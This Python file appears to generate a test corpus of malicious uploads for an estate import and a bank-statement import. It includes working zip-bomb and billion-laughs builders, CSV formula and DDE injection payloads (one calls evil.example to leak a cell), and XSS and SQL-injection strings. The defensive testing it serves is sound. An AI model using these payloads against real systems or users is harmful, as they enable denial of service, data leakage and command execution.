"""The bad-input corpus: files a careless or hostile user could upload to the estate import and the bank
statement import. ``python tests/corpus/make_corpus.py`` (re)writes the small ones into ``tests/corpus/files/``
byte for byte the same every time (fixed zip timestamps, fixed document properties); the large ones (the zip
bomb, the 20 MB files, the overlong CSV) are built at test time by the functions here, into a temporary
directory, so the repository stays small.

Every table uses one header that both imports understand: the estate import's columns, then the columns of
the bank account layout ``icbc_csv`` (each import ignores the other's columns), so each file is a fair test of
both. ``CASES`` says what each import must answer: a clean import, or an error whose message contains a
given phrase.
"""

from __future__ import annotations

import csv
import io
import random
import re
import struct
import sys
import zipfile
import zlib
from pathlib import Path

HERE = Path(__file__).resolve().parent
FILES = HERE / "files"

ESTATE = ["项目编码", "项目名称", "楼栋编码", "楼层", "房号", "物业类型", "建筑面积", "交付日期", "业主姓名", "手机号码"]
BANK = ["交易日期", "交易流水号", "摘要", "借方发生额", "贷方发生额", "余额", "对方户名", "对方账号", "附言"]
HEADER = ESTATE + BANK
FIXED_TIME = (2026, 1, 1, 0, 0, 0)
HOSTILE = ["=HYPERLINK(\"http://evil.example/?q=\"&A1,\"点此查看\")", "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
           "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "=1+1"]


def row(i: int, **over: str) -> list[str]:
    values = {
        "项目编码": "CORP", "项目名称": "语料花园", "楼栋编码": "1", "楼层": str(1 + i // 4), "房号": f"{1 + i // 4}0{i % 4 + 1}",
        "物业类型": "高层", "建筑面积": "88.50", "交付日期": "2020-06-30", "业主姓名": f"语料业主{i}",
        "手机号码": f"139{i:08d}", "交易日期": "2026-07-20", "交易流水号": f"CORP{i:04d}", "摘要": "转账",
        "借方发生额": "", "贷方发生额": f"{100 + i}.00", "余额": "", "对方户名": f"语料业主{i}",
        "对方账号": f"62220000{i:08d}", "附言": "物业费",
    }
    values.update(over)
    return [values[h] for h in HEADER]


def rows(n: int = 4, changes: dict[int, dict[str, str]] | None = None) -> list[list[str]]:
    changes = changes or {}
    return [HEADER] + [row(i, **changes.get(i, {})) for i in range(n)]


# --- writers --------------------------------------------------------------------------------------------------

def csv_bytes(table: list[list[str]], encoding: str = "utf-8", bom: bool = False) -> bytes:
    out = io.StringIO()
    csv.writer(out, lineterminator="\r\n").writerows(table)
    return (b"\xef\xbb\xbf" if bom else b"") + out.getvalue().encode(encoding)


def _repack(raw: bytes, replace: dict[str, bytes] | None = None, add: dict[str, bytes] | None = None,
            stored: set[str] | None = None) -> bytes:
    """The same zip with fixed timestamps (reproducible bytes), some members replaced or added."""
    replace, add, stored = replace or {}, add or {}, stored or set()
    src = zipfile.ZipFile(io.BytesIO(raw))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as dst:
        names = [i.filename for i in src.infolist()] + list(add)
        for name in names:
            data = replace.get(name, add.get(name))
            if data is None:
                data = src.read(name)
            if name == "docProps/core.xml":
                data = re.sub(rb"\d{4}-\d\d-\d\dT\d\d:\d\d:\d\dZ", b"2026-01-01T00:00:00Z", data)
            info = zipfile.ZipInfo(name, FIXED_TIME)
            info.compress_type = zipfile.ZIP_STORED if name in stored else zipfile.ZIP_DEFLATED
            dst.writestr(info, data)
    return out.getvalue()


def xlsx_bytes(table: list[list[str]], merges: tuple[str, ...] = (), cells: dict[str, str] | None = None,
               title: str | None = None) -> bytes:
    import openpyxl

    wb = openpyxl.Workbook()
    ws = wb.active
    ws.title = "Sheet1"
    if title:
        ws.append([title])
    for r in table:
        ws.append([v if v != "" else None for v in r])
    for ref, value in (cells or {}).items():
        ws[ref] = value
    for ref in merges:
        ws.merge_cells(ref)
    buf = io.BytesIO()
    wb.save(buf)
    return _repack(buf.getvalue())


SHEET_NS = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"


def _raw_zip(members: list[tuple[str, bytes, int, int, int]]) -> bytes:
    """A zip from already-compressed members: (name, data, crc, uncompressed size, method 0/8)."""
    out = io.BytesIO()
    central = []
    for name, data, crc, size, method in members:
        offset = out.tell()
        encoded = name.encode()
        out.write(struct.pack("<4s5H3L2H", b"PK\x03\x04", 20, 0, method, 0, 0x21, crc, len(data), size,
                              len(encoded), 0) + encoded)
        out.write(data)
        central.append(struct.pack("<4s6H3L5H2L", b"PK\x01\x02", 20, 20, 0, method, 0, 0x21, crc, len(data), size,
                                   len(encoded), 0, 0, 0, 0, 0, offset) + encoded)
    start = out.tell()
    for entry in central:
        out.write(entry)
    out.write(struct.pack("<4s4H2LH", b"PK\x05\x06", 0, 0, len(central), len(central), out.tell() - start, start, 0))
    return out.getvalue()


def _members(raw: bytes) -> list[tuple[str, bytes, int, int, int]]:
    src = zipfile.ZipFile(io.BytesIO(raw))
    out = []
    for info in src.infolist():
        data = src.read(info.filename)
        c = zlib.compressobj(6, zlib.DEFLATED, -15)
        out.append((info.filename, c.compress(data) + c.flush(), zlib.crc32(data), len(data), 8))
    return out


def zip_bomb(gib: int = 2) -> bytes:
    """A valid .xlsx of about 2 MB whose sheet XML inflates to ``gib`` GiB (a sheet of blank space): built from
    one deflate segment of 1 MiB of spaces, repeated (each segment ends with a full flush, so it stands alone)."""
    members = [m for m in _members(xlsx_bytes(rows(2))) if m[0] != "xl/worksheets/sheet1.xml"]
    head = f'<?xml version="1.0" encoding="UTF-8"?><worksheet xmlns="{SHEET_NS}"><sheetData>'.encode()
    tail = b"</sheetData></worksheet>"
    block = b" " * (1 << 20)
    c = zlib.compressobj(9, zlib.DEFLATED, -15)
    first = c.compress(head) + c.flush(zlib.Z_FULL_FLUSH)
    segment = c.compress(block) + c.flush(zlib.Z_FULL_FLUSH)
    repeats = gib * 1024 - 1
    data = first + segment * repeats + c.compress(tail) + c.flush()
    crc = zlib.crc32(head)
    for _ in range(repeats):
        crc = zlib.crc32(block, crc)
    crc = zlib.crc32(tail, crc)
    size = len(head) + len(block) * repeats + len(tail)
    return _raw_zip([*members, ("xl/worksheets/sheet1.xml", data, crc, size, 8)])


def lying_sizes() -> bytes:
    """An .xlsx whose sheet claims 2 KB uncompressed in the zip directory but inflates to 50 MB."""
    members = [m for m in _members(xlsx_bytes(rows(2))) if m[0] != "xl/worksheets/sheet1.xml"]
    body = (f'<?xml version="1.0" encoding="UTF-8"?><worksheet xmlns="{SHEET_NS}"><sheetData>'.encode()
            + b" " * (50 << 20) + b"</sheetData></worksheet>")
    c = zlib.compressobj(9, zlib.DEFLATED, -15)
    return _raw_zip([*members, ("xl/worksheets/sheet1.xml", c.compress(body) + c.flush(), zlib.crc32(body), 2048, 8)])


def padded_xlsx(megabytes: int = 20) -> bytes:
    """A clean workbook carrying ``megabytes`` MB of incompressible picture data (a 20 MB upload)."""
    blob = random.Random(20).randbytes(megabytes << 20)
    return _repack(xlsx_bytes(rows(4)), add={"xl/media/image1.png": blob}, stored={"xl/media/image1.png"})


def big_csv(megabytes: int = 20) -> bytes:
    """About ``megabytes`` MB of well-formed rows: more rows than an import accepts."""
    line = csv_bytes([row(0)])
    n = (megabytes << 20) // len(line)
    return csv_bytes([HEADER] + [row(i % 400) for i in range(n)])


def overlong_field() -> bytes:
    """One cell of 300,000 characters (beyond CSV's field limit)."""
    return csv_bytes(rows(2, {1: {"附言": "长" * 300_000}}))


def long_row() -> bytes:
    """A row of 30,000 characters over several cells (beyond the row bound, each cell under the field limit)."""
    return csv_bytes(rows(2, {1: {"附言": "长" * 15_000, "摘要": "长" * 15_000}}))


def unbalanced_quote() -> bytes:
    """A quote opened and never closed: the rest of the file (200 KB) would be one cell."""
    return csv_bytes(rows(2)) + b'CORP,"never closed,\r\n' + b"x" * 200_000


def billion_laughs() -> bytes:
    """Nested XML entities that would expand to 10^9 × "haha" (the parser must refuse, not expand)."""
    entities = '<!ENTITY a0 "haha">' + "".join(f'<!ENTITY a{i} "{f"&a{i - 1};" * 10}">' for i in range(1, 10))
    sheet = (f'<?xml version="1.0" encoding="UTF-8"?><!DOCTYPE worksheet [{entities}]>'
             f'<worksheet xmlns="{SHEET_NS}"><sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>&a9;</t></is></c>'
             f'</row></sheetData></worksheet>').encode()
    return _repack(xlsx_bytes(rows(2)), replace={"xl/worksheets/sheet1.xml": sheet})


def sparse_far_cell() -> bytes:
    """A few rows and one cell at XFD1048576 (the bottom-right corner of a sheet): about 5 KB."""
    return xlsx_bytes(rows(3), cells={"XFD1048576": "x"})


def _far_row_only() -> bytes:
    return xlsx_bytes(rows(3), cells={"A1048576": "x"})


# name → (bytes, estate expectation, bank expectation); an expectation is "ok" or a phrase of the error message.
def _with_remarks(table: list[list[str]], after: str) -> tuple[list[list[str]], str]:
    """A column without a header of its own right of ``after``, holding remarks, and the merge of the two
    header cells (项目名称 merged over its neighbour, as in the report: the remarks became the name)."""
    i = table[0].index(after) + 1
    out = [r[:i] + ["" if n == 0 else f"备注{n}"] + r[i:] for n, r in enumerate(table)]
    return out, f"{_letter(i - 1)}1:{_letter(i)}1"


def _letter(index: int) -> str:
    from openpyxl.utils import get_column_letter

    return get_column_letter(index + 1)


def small_cases() -> dict[str, tuple[bytes, str, str]]:
    merged_header, estate_merge = _with_remarks(rows(3), "项目名称")
    merged_header, bank_merge = _with_remarks(merged_header, "对方户名")
    duplicated = [HEADER + ["项目名称", "贷方发生额"]] + [row(i) + ["另一个名称", "999.00"] for i in range(3)]
    ambiguous = [[*HEADER[:1], "项目 名称", *HEADER[2:], "项目名称"]] + [row(i) + ["别名"] for i in range(3)]
    merged_data = rows(4)
    formula = rows(len(HOSTILE), {i: {"业主姓名": h, "对方户名": h, "附言": h, "项目名称": "语料花园"}
                                  for i, h in enumerate(HOSTILE)})
    script = rows(3, {0: {"业主姓名": "<script>alert(1)</script>", "对方户名": "<script>alert(1)</script>"},
                      1: {"业主姓名": "Robert'); DROP TABLE estate_unit;--", "对方户名": "x'); DELETE FROM banking_statementline;--"},
                      2: {"业主姓名": "1' OR '1'='1", "对方户名": "\" OR 1=1 --", "附言": "<img src=x onerror=alert(1)>"}})
    return {
        "clean.csv": (csv_bytes(rows()), "ok", "ok"),
        "gbk.csv": (csv_bytes(rows(4, {0: {"业主姓名": "喆䶮", "对方户名": "喆䶮"}}), "gb18030"), "ok", "ok"),
        "utf8_bom.csv": (csv_bytes(rows(), bom=True), "ok", "ok"),
        "clean.xlsx": (xlsx_bytes(rows(), merges=("C2:C5",)), "ok", "ok"),
        "sparse_far_cell.xlsx": (sparse_far_cell(), "超出导入范围", "超出导入范围"),
        "far_row.xlsx": (_far_row_only(), "超出导入范围", "超出导入范围"),
        "merged_header.xlsx": (xlsx_bytes(merged_header, merges=(estate_merge, bank_merge)),
                               f"合并单元格 {estate_merge}", f"合并单元格 {bank_merge}"),
        "duplicated_header.xlsx": (xlsx_bytes(duplicated), "“项目名称”出现在 B 列、T 列", "“贷方发生额”出现在"),
        "ambiguous_header.csv": (csv_bytes(ambiguous), "“项目名称”出现在 B 列、T 列", "ok"),
        "merged_data_cells.xlsx": (xlsx_bytes(merged_data, merges=("I3:J3", "Q4:R4", "C2:C5")), "合并单元格 I3:J3",
                                   "合并单元格 Q4:R4"),
        "renamed_text.xlsx": ("这不是 Excel 文件，只是改了扩展名的文本。\n".encode() * 20, "不是 .xlsx 格式",
                              "不是 .xlsx 格式"),
        "xls_renamed.xlsx": (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(2048), "旧版 .xls", "旧版 .xls"),
        "xlsx_named.csv": (xlsx_bytes(rows()), "实际是 Excel", "实际是 Excel"),
        "billion_laughs.xlsx": (billion_laughs(), "已损坏", "已损坏"),
        "utf16.csv": (b"\xff\xfe" + "项目编码\t项目名称\r\n".encode("utf-16-le"), "UTF-16", "UTF-16"),
        "nul_bytes.csv": (csv_bytes(rows()).replace(b"CORP0001", b"CORP\x00\x00\x00\x00"), "空字符", "空字符"),
        "latin1_binary.csv": (bytes(range(128, 256)) * 8, "无法识别文件编码", "无法识别文件编码"),
        "too_many_columns.csv": (csv_bytes([HEADER + [f"列{i}" for i in range(300)]] + [row(0) + ["x"] * 300]),
                                 "超过上限", "超过上限"),
        "overlong_names.csv": (csv_bytes(rows(3, {1: {"业主姓名": "长" * 101, "对方户名": "长" * 201},
                                                  2: {"项目名称": "名" * 101, "交易流水号": "S" * 101}})),
                               "长度不能超过 100 个字符", "长度不能超过"),
        "huge_numbers.csv": (csv_bytes(rows(3, {1: {"建筑面积": "1e12", "贷方发生额": "1234567890123456789012345"},
                                                2: {"楼层": "99999999999999999999", "余额": "1e30"}})),
                             "建筑面积超出范围", "金额超出范围"),
        "far_dates.csv": (csv_bytes(rows(3, {1: {"交付日期": "9999-01-01", "交易日期": "9999-01-01"},
                                             2: {"交付日期": "0001-01-01", "交易日期": "1000-01-01"}})),
                          "日期超出范围", "日期超出范围"),
        "formula_cells.csv": (csv_bytes(formula), "ok", "ok"),
        "script_and_sql_names.csv": (csv_bytes(script), "ok", "ok"),
        "control_characters.csv": (csv_bytes(rows(3, {1: {"业主姓名": "语料\x07业主\x1b", "对方户名": "户名\x0b\x0c"}})),
                                   "ok", "ok"),
    }


# built at test time (large): name → (builder, estate expectation, bank expectation)
LARGE_CASES = {
    "zip_bomb.xlsx": (zip_bomb, "压缩炸弹", "压缩炸弹"),
    "lying_sizes.xlsx": (lying_sizes, "已损坏", "已损坏"),
    "padded_20mb.xlsx": (padded_xlsx, "ok", "ok"),
    "rows_20mb.csv": (big_csv, "行数超过上限", "行数超过上限"),
    "overlong_field.csv": (overlong_field, "无法解析", "无法解析"),
    "unbalanced_quote.csv": (unbalanced_quote, "无法解析", "无法解析"),
    "long_row.csv": (long_row, "内容过长", "内容过长"),
}


def write_small(target: Path = FILES) -> list[Path]:
    target.mkdir(parents=True, exist_ok=True)
    written = []
    for name, (data, _estate, _bank) in small_cases().items():
        path = target / name
        path.write_bytes(data)
        written.append(path)
    return written


if __name__ == "__main__":
    for path in write_small(Path(sys.argv[1]) if len(sys.argv) > 1 else FILES):
        print(f"{path.stat().st_size:>8}  {path.name}")
